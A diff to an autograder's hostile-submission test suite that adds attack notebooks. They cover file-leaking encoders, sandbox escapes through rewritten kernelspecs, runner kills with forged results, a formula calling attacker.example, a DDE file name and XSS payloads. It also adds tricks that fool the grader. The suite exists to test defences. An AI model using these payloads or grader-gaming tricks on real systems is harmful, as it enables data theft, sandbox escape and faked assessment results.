@@ -6,21 +6,29 @@ folder's real path, which an attacker could guess), a whole notebook changed by 
 raw files instead of a notebook (`files`). `loses` are the parts that must score below full ("all": every
 part scores 0); `status` is what the TA's status table must say about the student.
 """
+import base64
+import codecs
 import hashlib
+import io
+import json
 import os
 import signal
 import subprocess
+import struct
 import sys
 import time
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 
+import matplotlib.image
 import nbformat
+import numpy as np
 from nbgrader.api import Gradebook
 
 from coursetools import commands, cycle, grade, intake, notebook, sample_class, scores
-from coursetools.assignment import ASSIGNMENT, GRADED_PARTS, NOTEBOOK
+from coursetools.assignment import ASSIGNMENT, GRADED_PARTS, NOTEBOOK, WRITTEN_ANSWER
 from coursetools.sample_class import ALL, Student
 from coursetools.sandbox import STATUS_DIR, sandbox_uid
 
@@ -136,10 +144,10 @@ ESCAPE = (
            code="open('COURSE/planted.txt', 'w').write('x')"),
     Attack("uses_network", "downloads from the internet", ("conv2d_naive",), part="conv2d_naive",
            code="import urllib.request\nurllib.request.urlopen('http://pypi.org', timeout=5)"),
-    Attack("leaves_a_process", "starts a process that outlives the grading (sleep 600)", (), part="conv2d",
-           code="import subprocess\nsubprocess.Popen(['sleep', '600'])"),
-    Attack("probes_environment", "prints the environment, looking for the grading run", (), part="conv2d",
-           code="print(sorted(__import__('os').environ.items()))"),
+    Attack("leaves_a_process", "starts a process that outlives the grading (sleep 600)", (),
+           tamper=insert_after_setup("import subprocess\nsubprocess.Popen(['sleep', '600'])")),
+    Attack("probes_environment", "prints the environment, looking for the grading run", (),
+           tamper=insert_after_setup("import os\nprint(sorted(os.environ.items()))")),
 )
 
 FAULTS = (
@@ -192,22 +200,22 @@ TAMPERING = (
            tamper=then(flipped_conv2d, insert_after_setup(
                "get_ipython().showtraceback = lambda *a, **k: None\n"
                "get_ipython().showsyntaxerror = lambda *a, **k: None"))),
-    Attack("patches_allclose", "wrong conv2d, and np.allclose patched to always agree (which also trips the "
-           "visible flipped-kernel check of conv2d_naive)", ("conv2d_naive", "conv2d"),
-           "re-verification failed",
+    Attack("patches_allclose", "wrong conv2d, and np.allclose patched to always agree (the tests' np is the "
+           "grader's own)", ("conv2d",),
            tamper=then(flipped_conv2d, insert_after_setup("np.allclose = lambda *a, **k: True"))),
-    Attack("replaces_grader", "wrong conv2d, and the hidden grader object replaced by a no-op (whose answers also "
-           "fail the hidden Conv2D and SimpleConvNet checks in the kernel)", ("conv2d", "Conv2D", "SimpleConvNet"),
+    Attack("replaces_grader", "wrong conv2d, and the hidden grader object replaced by a no-op (it is not in the "
+           "kernel: the grader's own judges)", ("conv2d",),
            tamper=then(flipped_conv2d, insert_after_setup(
                "class _Anything:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
-               "_grader = _Anything()")), status="re-verification failed"),
-    Attack("calls_hidden_reference", "conv2d returns the hidden grader's own reference result", ("conv2d",),
-           "re-verification failed", part="conv2d", code="return _grader.conv2d(x, weight, bias, stride, padding)"),
+               "_grader = _Anything()"))),
+    Attack("calls_hidden_reference", "conv2d returns the hidden grader's own reference result (which does not "
+           "exist where its code runs)", ("conv2d",), part="conv2d", code="return _grader.conv2d(x, weight, bias, stride, padding)"),
     Attack("patches_grader_methods", "wrong conv2d, and the hidden grader's checks patched into no-ops", ("conv2d",),
-           "re-verification failed", tamper=then(flipped_conv2d, insert_after_setup(
+           tamper=then(flipped_conv2d, insert_after_setup(
                "for _name in ('compare', 'check', 'expect_value_error', 'check_loops'):\n"
                "    setattr(_Grader, _name, lambda *a, **k: None)"))),
-    Attack("prints_hidden_tests", "prints the hidden grader's source, hoping to find it in the feedback", (),
+    Attack("prints_hidden_tests", "prints the hidden grader's source, hoping to find it in the feedback (there is "
+           "none in the kernel)", (),
            tamper=insert_after_setup("import inspect\nfor _f in vars(_Grader).values():\n"
                                      "    if inspect.isfunction(_f):\n        print(inspect.getsource(_f))")),
 )
@@ -232,7 +240,399 @@ BROKEN = (
                        edit_cell("test_pad2d", lambda c: c.metadata.nbgrader.pop("points")))),
 )
 
-ATTACKS = ESCAPE + FAULTS + TAMPERING + BROKEN
+def append_cell(code):
+    """A tamper function that adds a code cell at the end of the notebook (it runs after every test)."""
+    return lambda nb: nb.cells.append(nbformat.v4.new_code_cell(code))
+
+
+# Leaks: everything student code can reach (files near it, the kernel's history, linecache), encoded so that
+# no filter on output text would recognise it. LEAK_DECODERS turn each attack's printed payload back into text.
+COLLECT = """import glob, linecache, os, zlib
+_texts = []
+for _root in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), '/tmp'}:
+    for _path in glob.glob(os.path.join(_root, '**', '*.ipynb'), recursive=True) + glob.glob(os.path.join(_root, '*.json')):
+        try:
+            _texts.append(open(_path, errors='replace').read())
+        except OSError:
+            pass
+_texts.append('\\n'.join(get_ipython().user_ns.get('In', [])))
+_texts.append('\\n'.join(''.join(v[2]) for v in list(linecache.cache.values()) if isinstance(v, tuple) and len(v) > 2))
+_blob = zlib.compress('\\n'.join(_texts).encode(), 9)
+"""
+LEAKS = (
+    Attack("leaks_base64", "prints everything it can reach, zlib-compressed and base64-encoded", (),
+           tamper=append_cell(COLLECT + "import base64\nprint('LEAK', base64.b64encode(_blob).decode())")),
+    Attack("leaks_hex_split", "prints everything it can reach as hex, split across many prints", (),
+           tamper=append_cell(COLLECT + "_hex = _blob.hex()\nfor _i in range(0, len(_hex), 500):\n"
+                                        "    print('LEAK', _hex[_i:_i + 500])")),
+    Attack("leaks_in_image", "hides everything it can reach in the pixels of a PNG image it displays", (),
+           tamper=append_cell(COLLECT + "import io, struct\nimport matplotlib.pyplot as plt\nfrom IPython.display import Image, display\n"
+                                        "_data = struct.pack('>I', len(_blob)) + _blob\n_data += bytes(-len(_data) % 256)\n"
+                                        "_buffer = io.BytesIO()\n_gray = np.frombuffer(_data, np.uint8).reshape(-1, 256)\n"
+                                        "plt.imsave(_buffer, np.stack([_gray] * 3, axis=-1), format='png')\n"
+                                        "display(Image(_buffer.getvalue()))")),
+    Attack("leaks_rot13_reversed", "prints everything it can reach reversed and rot13-encoded, in its own solution cell",
+           (), tamper=replace_in("conv2d", "def conv2d(", COLLECT.replace("_texts", "_t2") +
+                                 "import codecs\nprint('LEAK', codecs.encode(zlib.decompress(_blob).decode()[::-1], 'rot13')"
+                                 "[:90000].replace('\\n', '~~~'))\n\n\ndef conv2d(")),
+)
+
+def leaked_text(attack: str, nb) -> str:
+    """What a LEAKS attack printed or displayed, decoded back into text (as much of it as the output caps kept)."""
+    printed = [line[len("LEAK "):] for cell in nb.cells for output in cell.get("outputs", [])
+               if output.output_type == "stream" for line in output.text.splitlines() if line.startswith("LEAK ")]
+    if attack == "leaks_rot13_reversed":
+        return codecs.decode(printed[0], "rot13")[::-1].replace("~~~", "\n")
+    if attack == "leaks_base64":
+        data = base64.b64decode(printed[0][:len(printed[0]) // 4 * 4])
+    elif attack == "leaks_hex_split":
+        hex_digits = "".join(printed)
+        data = bytes.fromhex(hex_digits[:len(hex_digits) // 2 * 2])
+    else:
+        image = next(output.data["image/png"] for cell in nb.cells for output in cell.get("outputs", [])
+                     if "image/png" in output.get("data", {}))
+        pixels = matplotlib.image.imread(io.BytesIO(base64.b64decode(image)))[..., 0]
+        data = np.rint(pixels * 255).astype(np.uint8).tobytes()
+        data = data[4:4 + struct.unpack(">I", data[:4])[0]]
+    return zlib.decompressobj().decompress(data).decode(errors="replace")
+
+
+def hidden_lines_in(text: str, hidden: set[str]) -> set[str]:
+    """The hidden-test lines (of 20 characters or more) that `text` holds, as they are or JSON-escaped."""
+    return {line for line in hidden if len(line) >= 20 and (line in text or json.dumps(line)[1:-1] in text)}
+
+
+# The sandbox's configuration from inside: each attack then prints the kernel's limits and what it managed, and
+# tests/test_hostile.py checks that the kernel still runs under the configured limits.
+SHOW_LIMITS = ("import os, resource\nprint('LIMITS', resource.getrlimit(resource.RLIMIT_AS)[0], "
+               "resource.getrlimit(resource.RLIMIT_NPROC)[0], os.environ.get('SHADOWED', '-'))")
+UNLIMIT_SPECS = """import glob, json, os
+for _root in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), '/tmp', *os.environ.get('JUPYTER_PATH', '').split(':')}:
+    for _path in glob.glob(os.path.join(_root or '.', '**', 'kernel.json'), recursive=True):
+        try:
+            _spec = json.load(open(_path))
+            _spec['argv'] = _spec['argv'][_spec['argv'].index('--') + 1:] if '--' in _spec['argv'] else _spec['argv']
+            json.dump(_spec, open(_path, 'w'))
+            print('rewrote', _path)
+        except (OSError, ValueError) as _error:
+            print('could not rewrite', _path, type(_error).__name__)
+"""
+PLANT_SPEC = """import json, os, sys
+for _folder in (os.path.join(os.path.expanduser('~'), '.local/share/jupyter/kernels/sandboxed'), 'kernels/sandboxed'):
+    try:
+        os.makedirs(_folder, exist_ok=True)
+        json.dump({'argv': [sys.executable, '-m', 'ipykernel_launcher', '-f', '{connection_file}'],
+                   'language': 'python', 'display_name': 'free'}, open(os.path.join(_folder, 'kernel.json'), 'w'))
+    except OSError as _error:
+        print('could not plant', _folder, type(_error).__name__)
+"""
+SHADOW_LAUNCHER = """open('ipykernel_launcher.py', 'w').write(
+    "import os, runpy, sys\\nos.environ['SHADOWED'] = '1'\\nsys.path.pop(0)\\nrunpy.run_module('ipykernel_launcher', run_name='__main__')\\n")
+"""
+RESTART = "import os\nos._exit(0)"
+SANDBOX_CONFIG = tuple(
+    Attack(name, description, (), "kernel died",  # each insert goes right after the setup cell: restart, then code
+           tamper=then(insert_after_setup(RESTART), insert_after_setup(code), append_cell(SHOW_LIMITS)))
+    for name, description, code in (
+        ("unlimits_kernelspec", "rewrites every kernel.json it finds without the prlimit prefix, then restarts the "
+         "kernel", UNLIMIT_SPECS),
+        ("plants_kernelspec", "plants a kernelspec named 'sandboxed' without limits in its home and working folder, "
+         "then restarts the kernel", PLANT_SPEC),
+        ("shadows_kernel_launcher", "writes ipykernel_launcher.py into the kernel's folder, then restarts the kernel",
+         SHADOW_LAUNCHER),
+    ))
+
+# Forged grading results: files where the runner would write them, then the runner killed.
+KILL_RUNNER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
+FORGE = """import json, os
+for _folder in {os.getcwd(), os.path.dirname(os.getcwd())}:
+    try:
+        json.dump(%s, open(os.path.join(_folder, 'incidents.json'), 'w'))
+        if os.path.exists(os.path.join(_folder, 'notebook.ipynb')):
+            _nb = json.load(open(os.path.join(_folder, 'notebook.ipynb')))
+            for _cell in _nb['cells']:
+                if _cell['cell_type'] == 'code':
+                    _cell['outputs'] = []
+            json.dump(_nb, open(os.path.join(_folder, 'executed.ipynb'), 'w'))
+    except OSError:
+        pass
+"""
+FORGERY = (
+    Attack("forges_formula_incident", "writes incidents.json holding a spreadsheet formula and kills the runner", (),
+           tamper=then(insert_after_setup(FORGE % "['=HYPERLINK(\"http://attacker.example\", \"ok\")']"
+                                                         + KILL_RUNNER))),
+    Attack("forges_incident_types", "writes incidents.json holding a number (which crashed the status table) and kills "
+           "the runner", (), tamper=insert_after_setup(FORGE % "[1]" + KILL_RUNNER)),
+    Attack("forges_clean_run", "avg_pool2d never returns, and a later cell writes an executed notebook with no errors "
+           "and no incidents, then kills the runner", ("avg_pool2d",), "timed out",
+           tamper=then(replace_in("avg_pool2d", "    x = np.asarray(x, dtype=float)\n",
+                                  "    while True:\n        pass\n    x = np.asarray(x, dtype=float)\n"),
+                       append_cell(FORGE % "[]" + KILL_RUNNER))),
+    Attack("escapes_in_file_name", "hands in the solution under a file name holding terminal escape codes and a formula",
+           (), "as cnn.ipynb", files={"=cmd|' -C calc'!A0\x1b[2J\x1b[31m.ipynb": solved_notebook}),
+)
+
+# Kernels that stop answering: each must cost only its own part, within seconds of the cell timeout.
+HUNG_KERNELS = (
+    Attack("replaces_isinstance", "the SimpleConvNet cell replaces builtins.isinstance, which leaves the kernel unable "
+           "to answer", (), "hung the kernel",
+           tamper=replace_in("SimpleConvNet", "class SimpleConvNet", "import builtins\n"
+                             "builtins.isinstance = lambda obj, cls: True\n\n\nclass SimpleConvNet")),
+    Attack("ignores_interrupts", "avg_pool2d ignores SIGINT and loops forever, so the interrupt never takes",
+           ("avg_pool2d",), "hung the kernel", part="avg_pool2d",
+           code="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
+    Attack("sleeps_in_c", "max_pool2d sleeps in C with SIGINT ignored (time.sleep never returns to Python)",
+           ("max_pool2d",), "hung the kernel", part="max_pool2d",
+           code="import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(10**6)"),
+)
+
+# Script in what the TA's and students' browsers show of a submission (the Formgrader, the feedback). Each payload,
+# if it ever ran, would fetch /api/contents?pwned=<name> with the viewer's session, retitle the page and set
+# window.__pwned (tests/test_browser_hostile.py watches for all three). The solutions are right: full marks.
+def pwned(name: str) -> str:
+    return (f"fetch('/api/contents?pwned={name}');document.title='pwned {name}';window.__pwned='{name}';"
+            f"console.log('pwned {name}')")
+
+
+def displays(kind: str, payload: str) -> str:
+    """Code that displays `payload` wrapped in IPython.display's `kind` (HTML, Javascript, SVG, Markdown)."""
+    return f"from IPython.display import {kind}, display\ndisplay({kind}({payload!r}))"
+
+
+def append_markdown(text):
+    """A tamper function that adds a markdown cell of the student's own at the end of the notebook."""
+    return lambda nb: nb.cells.append(nbformat.v4.new_markdown_cell(text))
+
+
+XSS_LINK = "see my working"  # the text of xss_javascript_link's link, which the browser test clicks
+XSS = tuple(Attack(name, description, **attack(pwned(name))) for name, description, attack in (
+    ("xss_markdown_answer", "the written answer ends in <img src=x onerror=...>", lambda js: {"tamper": edit_cell(
+        WRITTEN_ANSWER, lambda c: setattr(c, "source", c.source + f'\n\n<img src=x onerror="{js}">'))}),
+    ("xss_html_script", "pad2d displays HTML holding a <script>",
+     lambda js: {"part": "pad2d", "code": displays("HTML", f"<script>{js}</script>")}),
+    ("xss_javascript", "a cell of its own displays Javascript(...)",
+     lambda js: {"tamper": append_cell(displays("Javascript", js))}),
+    ("xss_svg", "a cell of its own displays an SVG with an onload handler and a <script>",
+     lambda js: {"tamper": append_cell(displays("SVG", f'<svg xmlns="http://www.w3.org/2000/svg" width="40" '
+                                                       f'height="40" onload="{js}"><script>{js}</script></svg>'))}),
+    ("xss_javascript_link", "a markdown cell of its own links to javascript:", lambda js: {"tamper": append_markdown(
+        f'My notes: <a href="javascript:{js}">{XSS_LINK}</a>')}),
+    ("xss_markdown_output", "a cell of its own displays Markdown(<img src=x onerror=...>)",
+     lambda js: {"tamper": append_cell(displays("Markdown", f'<img src=x onerror="{js}">'))}),
+    ("xss_image_metadata", "displays a real PNG whose width metadata is '1 onload=...' (nbconvert writes it into "
+     "the <img> tag unquoted)", lambda js: {"tamper": append_cell(
+         "import base64, io\nimport matplotlib.pyplot as plt\nfrom IPython.display import display\n"
+         "_png = io.BytesIO()\nplt.imsave(_png, np.outer(np.arange(64), np.arange(64)), format='png')\n"
+         "display({'image/png': base64.b64encode(_png.getvalue()).decode(), 'text/plain': 'my figure'}, raw=True, "
+         f"metadata={{'image/png': {{'width': {'1 onload=' + js.replace(' ', '')!r}}}}})")}),
+))
+
+ATTACKS = ESCAPE + FAULTS + TAMPERING + BROKEN + LEAKS + SANDBOX_CONFIG + FORGERY + HUNG_KERNELS + XSS
+
+
+def rewrite(grade_id: str, code: str) -> Callable:
+    """A tamper function that replaces a solution cell with `code`."""
+    return edit_cell(grade_id, lambda cell: setattr(cell, "source", code))
+
+
+def append_to(grade_id: str, code: str) -> Callable:
+    """A tamper function that adds top-level `code` at the end of a solution cell (it runs when the cell loads)."""
+    return edit_cell(grade_id, lambda cell: setattr(cell, "source", cell.source + "\n\n" + code))
+
+
+# Work the TA's process does for student code is bounded: a stand-in's reference runs under the student's limits
+# (coursetools/references.py), the wire refuses a flood before reading it, the intake refuses what no
+# notebook is. Each attack strikes only where the grader's stand-in is (its __qualname__ is not the student's).
+FLOOD_THE_WIRE = """import fcntl, json, os, struct, sys
+if sys.argv[0].endswith('verify_worker.py'):  # the worker's own pipe to the TA, found in /proc
+    for fd in sorted(int(name) for name in os.listdir('/proc/self/fd')):
+        try:
+            if fd > 2 and os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:') and \\
+                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
+                header = json.dumps({'tree': {'dict': {'ok': None}}, 'blobs': [2**28] * 12}).encode()
+                os.write(fd, struct.pack('<Q', len(header)) + header)
+                for _ in range(12 * 16):
+                    os.write(fd, bytes(2**24))
+        except OSError:
+            pass"""
+BOUNDS = (
+    Attack("huge_reference_call", "conv2d asks the grader's max_pool2d stand-in, once, for a 1600x1600 image pooled by "
+           "800x800 windows at stride 1 (76 s in the TA's process unbounded)", ("conv2d",), part="conv2d",
+           code="if max_pool2d.__qualname__ != 'max_pool2d' and not getattr(conv2d, 'asked', False):\n"
+                "    conv2d.asked = True\n    try:\n        max_pool2d(np.zeros((1, 1, 1600, 1600)), 800, 1)\n"
+                "    except Exception:\n        pass"),
+    Attack("huge_reference_memory", "conv2d asks the grader's pad2d stand-in to pad a 1x1 image by 11000 (3.9 GB)",
+           ("conv2d",), part="conv2d",
+           code="if pad2d.__qualname__ != 'pad2d':\n    pad2d(np.zeros((1, 1, 1, 1)), 11000)"),
+    Attack("floods_the_wire", "avg_pool2d writes to the worker's pipe a message of twelve 256 MiB arrays",
+           ("avg_pool2d",), part="avg_pool2d", code=FLOOD_THE_WIRE),
+    Attack("deeply_nested_json", "cnn.ipynb is 100 KB of nested [ (a RecursionError in json.loads)", "all",
+           "nested too deeply", files={f"{NOTEBOOK}.ipynb": b"[" * 100_000}),
+    Attack("huge_notebook", "the solution followed by 51 MB of spaces", "all", "more than a notebook may have",
+           files={f"{NOTEBOOK}.ipynb": lambda course: solved_notebook(course) + b" " * (51 * 2**20)}),
+    Attack("too_many_cells", "the solution with 5,000 empty cells added", "all", "cells, more than",
+           tamper=lambda nb: nb.cells.extend(nbformat.v4.new_code_cell("") for _ in range(5000))),
+)
+
+# Points only for the work: a part must also work in the student's program as submitted (no stand-ins), the
+# worker's isinstance uses the real type, the hidden test sets its own weights, the for-loop rule follows what
+# the code calls, and no stand-in answers for the part under test.
+NAIVE_ON_CONV2D = """def conv2d_naive(image, kernel):
+    image, kernel = np.asarray(image, dtype=float), np.asarray(kernel, dtype=float)
+    if image.ndim != 2 or kernel.ndim != 2:
+        raise ValueError("image and kernel must be 2-D")
+    for _ in range(1):
+        pass
+    return conv2d(image[None, None], kernel[None, None])[0, 0]
+"""
+CONV2D_ON_NAIVE = """def conv2d(x, weight, bias=None, stride=1, padding=0):
+    x, weight = np.asarray(x, dtype=float), np.asarray(weight, dtype=float)
+    if x.ndim != 4 or weight.ndim != 4 or x.shape[1] != weight.shape[1]:
+        raise ValueError("x must be (N, C, H, W) and weight (C_out, C, kH, kW)")
+    (sh, sw), (ph, pw) = as_pair(stride), as_pair(padding)
+    H_out = conv_output_size(x.shape[2], weight.shape[2], sh, ph)
+    W_out = conv_output_size(x.shape[3], weight.shape[3], sw, pw)
+    padded = pad2d(x, (ph, pw))
+    out = np.zeros((x.shape[0], weight.shape[0], H_out, W_out))
+    for n in range(x.shape[0]):
+        for o in range(weight.shape[0]):
+            for c in range(x.shape[1]):
+                out[n, o] += conv2d_naive(padded[n, c], weight[o, c])[::sh, ::sw]
+            if bias is not None:
+                out[n, o] += bias[o]
+    return out
+"""
+SIZE_ON_PAD = """def conv_output_size(input_size, kernel_size, stride=1, padding=0):
+    if stride < 1 or padding < 0:
+        raise ValueError("stride must be >= 1 and padding >= 0")
+    size = (pad2d(np.zeros((1, input_size)), (0, padding)).shape[1] - kernel_size) // stride + 1
+    if size < 1:
+        raise ValueError("the kernel does not fit")
+    return size
+"""
+PAD_ON_SIZE = """def pad2d(x, padding):
+    x = np.asarray(x)
+    (ph, pw), (H, W) = as_pair(padding), x.shape[-2:]
+    out = np.zeros(x.shape[:-2] + (conv_output_size(H, 1, 1, ph), conv_output_size(W, 1, 1, pw)), dtype=x.dtype)
+    out[..., ph:ph + H, pw:pw + W] = x
+    return out
+"""
+COMPUTES_NOTHING = """
+    def forward(self, x):
+        return np.zeros((len(x), self.classes))
+
+    def __call__(self, x):
+        return self.forward(x)
+
+    def parameters(self):
+        return []
+"""
+FAKE_LAYERS = """class _Layer:
+    # Claims to be whatever class it names, reports zero weights of the right shapes, ignores new ones.
+    def __init__(self, kind, **fields):
+        object.__setattr__(self, "fields", dict(fields, kind=kind))
+
+    __class__ = property(lambda self: self.fields["kind"])
+
+    def __getattr__(self, name):
+        if name in self.fields:
+            return self.fields[name]
+        raise AttributeError(name)
+
+    def __setattr__(self, name, value):
+        pass
+
+
+class SimpleConvNet:
+    def __init__(self, in_channels=1, image_size=(28, 28), num_classes=10, seed=None):
+        H, W = image_size
+        self.classes = num_classes
+        features = 8 * (H // 2) * (W // 2)
+        self.layers = [_Layer(Conv2D, weight=np.zeros((8, in_channels, 3, 3)), bias=np.zeros(8), stride=1, padding=1),
+                       _Layer(ReLU), _Layer(MaxPool2D, kernel_size=2, stride=None), _Layer(Flatten),
+                       _Layer(Dense, weight=np.zeros((features, num_classes)), bias=np.zeros(num_classes))]
+""" + COMPUTES_NOTHING
+ZERO_WEIGHTS = """class _Frozen:
+    # Weights that read as zeros, whatever is set.
+    weight = property(lambda self: np.zeros(self.shape), lambda self, value: None)
+    bias = property(lambda self: np.zeros(self.shape[0 if self.first else 1]), lambda self, value: None)
+
+
+def _frozen(kind, first, **fields):
+    # A real instance of a subclass of `kind` (whatever the name means when the net is built) that computes nothing.
+    layer = object.__new__(type("Frozen" + kind.__name__, (_Frozen, kind), {"first": first}))
+    layer.__dict__.update(fields)
+    return layer
+
+
+class SimpleConvNet:
+    def __init__(self, in_channels=1, image_size=(28, 28), num_classes=10, seed=None):
+        H, W = image_size
+        self.classes = num_classes
+        self.layers = [_frozen(Conv2D, True, shape=(8, in_channels, 3, 3), stride=1, padding=1), ReLU(),
+                       MaxPool2D(2), Flatten(), _frozen(Dense, False, shape=(8 * (H // 2) * (W // 2), num_classes))]
+""" + COMPUTES_NOTHING
+LOOP_SKIP = "for _ in range(1):\n    pass\n"  # a loop that does nothing, for a rule that only looks for one
+POOL_WINDOW = "(kH, kW), (sH, sW) = as_pair(kernel_size), as_pair(kernel_size if stride is None else stride)\n"
+UNEARNED = (
+    Attack("naive_and_conv2d_on_each_other", "conv2d_naive calls conv2d and conv2d calls conv2d_naive: each works on "
+           "the other's reference, neither in the program as submitted", ("conv2d_naive", "conv2d"),
+           tamper=then(rewrite("conv2d_naive", NAIVE_ON_CONV2D), rewrite("conv2d", CONV2D_ON_NAIVE))),
+    Attack("size_and_pad_on_each_other", "conv_output_size calls pad2d and pad2d calls conv_output_size",
+           ("conv_output_size", "pad2d"),
+           tamper=then(rewrite("conv_output_size", SIZE_ON_PAD), rewrite("pad2d", PAD_ON_SIZE))),
+    Attack("fake_layer_classes", "SimpleConvNet's layers fake their __class__, report zero weights and compute nothing",
+           ("SimpleConvNet",), tamper=rewrite("SimpleConvNet", FAKE_LAYERS)),
+    Attack("frozen_zero_weights", "SimpleConvNet's layers are real subclasses whose weights always read as zeros, and "
+           "it computes nothing", ("SimpleConvNet",), tamper=rewrite("SimpleConvNet", ZERO_WEIGHTS)),
+    Attack("asks_reference_for_itself", "conv2d finds the worker's object and asks the TA for conv2d's own reference",
+           ("conv2d",), part="conv2d",
+           code="import gc\nfor worker in gc.get_objects():\n"
+                "    if type(worker).__name__ == 'Worker' and hasattr(worker, 'ask'):\n"
+                "        return worker.ask({'kind': 'call', 'name': 'conv2d', 'args': [x, weight, bias, stride, padding],"
+                " 'kwargs': {}})"),
+    Attack("loop_rule_getattr", "conv2d_naive is sliding_window_view, named by getattr with built strings, and a "
+           "loop that does nothing", ("conv2d_naive",), part="conv2d_naive",
+           code=LOOP_SKIP + "window = getattr(getattr(np.lib, 'stride_' + 'tricks'), 'sliding_' + 'window_view')\n"
+                "if np.ndim(image) != 2 or np.ndim(kernel) != 2 or \\\n"
+                "        any(np.subtract(np.shape(image), np.shape(kernel)) < 0):\n"
+                "    raise ValueError('bad shapes')\n"
+                "return np.einsum('ijab,ab->ij', window(np.asarray(image, dtype=float), np.shape(kernel)), kernel)"),
+    Attack("loop_rule_import", "max_pool2d is sliding_window_view from __import__ of a built module name, and a loop "
+           "that does nothing", ("max_pool2d",), part="max_pool2d",
+           code=LOOP_SKIP + POOL_WINDOW + "tricks = __import__('numpy.lib.stride_' + 'tricks', fromlist=['x'])\n"
+                "windows = vars(tricks)['sliding_' + 'window_view'](np.asarray(x), (kH, kW), axis=(2, 3))\n"
+                "return windows[:, :, ::sH, ::sW].max(axis=(-2, -1))"),
+    Attack("loop_rule_exec", "the avg_pool2d cell makes a helper with exec at load time and avg_pool2d uses it: no "
+           "part's for-loop rule can be read then", ("conv2d_naive", "conv2d", "max_pool2d", "avg_pool2d"),
+           part="avg_pool2d", code=LOOP_SKIP + POOL_WINDOW + "return _windows(np.asarray(x, dtype=float), (kH, kW))"
+                                                             "[:, :, ::sH, ::sW].mean(axis=(-2, -1))",
+           tamper=append_to("avg_pool2d", "exec('def _windows(x, k):\\n    import numpy\\n    return numpy.lib.'\n"
+                                          "     'stride_tricks.sliding_window_view(x, k, axis=(2, 3))')")),
+)
+
+# A fault costs only what it breaks, in the verifier too: a cell that stops or hangs the worker while it loads is
+# left out (as the kernel leaves it out), built-in names are put back after every statement and request.
+FATAL_LOADS = (
+    Attack("exits_while_loading", "the SimpleConvNet cell ends the process with os._exit after defining the class",
+           ("SimpleConvNet",), "stopped the re-verification worker while loading",
+           tamper=append_to("SimpleConvNet", "import os\nos._exit(1)")),
+    Attack("hangs_while_loading", "the max_pool2d cell loops forever at top level, catching every interrupt",
+           ("max_pool2d",), "hung the re-verification worker while loading",
+           tamper=append_to("max_pool2d", "while True:\n    try:\n        while True:\n            pass\n"
+                                          "    except BaseException:\n        pass")),
+    Attack("closes_the_wire", "the conv_output_size cell closes every file descriptor from 3 up at top level",
+           ("conv_output_size",), "stopped the re-verification worker while loading",
+           tamper=append_to("conv_output_size", "import os\nos.closerange(3, 100)")),
+    Attack("loops_at_top_level", "the avg_pool2d cell loops forever at top level, after the function", (), "timed out",
+           tamper=append_to("avg_pool2d", "while True:\n    pass")),
+    Attack("replaces_builtins_in_call", "conv2d replaces builtins.len and builtins.isinstance before it returns",
+           (), tamper=replace_in("conv2d", "    return out", "    import builtins\n    builtins.len = lambda obj: 0\n"
+                                                               "    builtins.isinstance = lambda obj, cls: True\n"
+                                                               "    return out")),
+)
+
+ATTACKS += BOUNDS + UNEARNED + FATAL_LOADS
 
 # Honest students graded in the same batch, with the scores they must keep to the point.
 HONEST = (sample_class.FULL_SOLUTION,) + tuple(s for s in sample_class.SAMPLE_CLASS if s.student_id == "flipped_kernel")
@@ -271,7 +671,7 @@ def processes_running(argv: list[str]) -> list[int]:
 def run_hostile(course: Path, attacks=ATTACKS) -> HostileRun:
     """Hand in the attacks beside the honest students and grade them all with the TA's command."""
     with open(course / "nbgrader_config.py", "a") as config:  # faster timeouts: the loops run for nothing
-        config.write("\nc.SandboxedExecute.cell_timeout = 10\nc.SandboxedExecute.notebook_seconds = 120\n")
+        config.write("\nc.SandboxedExecute.cell_timeout = 20\nc.SandboxedExecute.notebook_seconds = 240\n")
     commands.nbgrader(course, "generate_assignment", ASSIGNMENT, "--force")
     for attack in attacks:
         attack.write(course)
@@ -340,10 +740,11 @@ def run_without_sandbox(course: Path, refuse: bool) -> tuple[int, str, dict]:
     return done.returncode, done.stdout, {s.student: s for s in grade.statuses(course, intakes)}
 
 
-def outcomes(run: HostileRun) -> list[str]:
-    """One line per attack: its score of the autograded points, the parts it lost and its status."""
+def outcomes(run: HostileRun, attacks=None) -> list[str]:
+    """One line per attack (of `attacks`, ATTACKS by default): its score of the autograded points, the parts it
+    lost and its status."""
     lines = []
-    for attack in ATTACKS:
+    for attack in ATTACKS if attacks is None else attacks:
         parts = {p: v for p, v in run.parts[attack.name].items() if p != "weight_sharing_answer"}
         lost_parts = [p for p, (score, most) in parts.items() if score < most]
         loses = "everything" if len(lost_parts) == len(parts) else ", ".join(lost_parts) or "nothing"
